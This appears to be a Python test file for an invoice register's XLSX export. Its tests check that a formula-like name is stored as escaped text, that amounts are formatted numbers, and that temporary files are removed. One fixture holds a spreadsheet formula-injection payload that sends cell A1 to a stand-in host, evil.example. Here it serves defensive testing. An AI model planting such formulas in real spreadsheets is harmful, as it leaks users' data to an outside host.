"""The register's XLSX as XlsxWriter writes it: text that looks like a formula stays text,
amounts are numbers with two decimals, and its temporary files leave nothing behind."""

import io
import tempfile
import zipfile
from datetime import date
from decimal import Decimal as D

from openpyxl import load_workbook

from sales.register import InvoiceRegister, RegisterRow, invoice_register_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Ana")'


def a_register():
    row = RegisterRow(date(2026, 11, 2), "F2026-000001", "F", "F1", "", HYPERLINK,
                      {"21.00": (D("10.00"), D("2.10"))}, D("12.10"), "")  # fmt: skip
    return InvoiceRegister(start=date(2026, 11, 1), end=date(2026, 11, 30), rows=[row], rates=["21.00"])


def test_a_name_written_as_a_formula_is_stored_as_text_never_as_a_formula():
    data = invoice_register_xlsx(a_register())
    sheet = load_workbook(io.BytesIO(data)).active
    name = sheet.cell(row=2, column=6)
    assert name.data_type == "s" and name.value == "'" + HYPERLINK
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and 't="inlineStr"><is><t>\'=HYPERLINK' in xml  # an inline string, not a formula
    assert sheet.cell(row=2, column=7).value == 10.0 and sheet.cell(row=2, column=7).number_format == "#,##0.00"
    assert sheet.cell(row=2, column=1).value.date() == date(2026, 11, 2)
    assert sheet.cell(row=3, column=1).font.b and sheet.cell(row=3, column=9).value == 12.1


def test_the_xlsx_temporary_files_are_private_and_removed(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    seen = []
    real_mkstemp = tempfile.mkstemp

    def watching_mkstemp(*args, **kwargs):
        fd, path = real_mkstemp(*args, **kwargs)
        seen.append(path)
        return fd, path

    monkeypatch.setattr(tempfile, "mkstemp", watching_mkstemp)
    invoice_register_xlsx(a_register())
    assert seen and all(path.startswith(str(tmp_path / "beils-register-")) for path in seen)
    assert list(tmp_path.iterdir()) == []
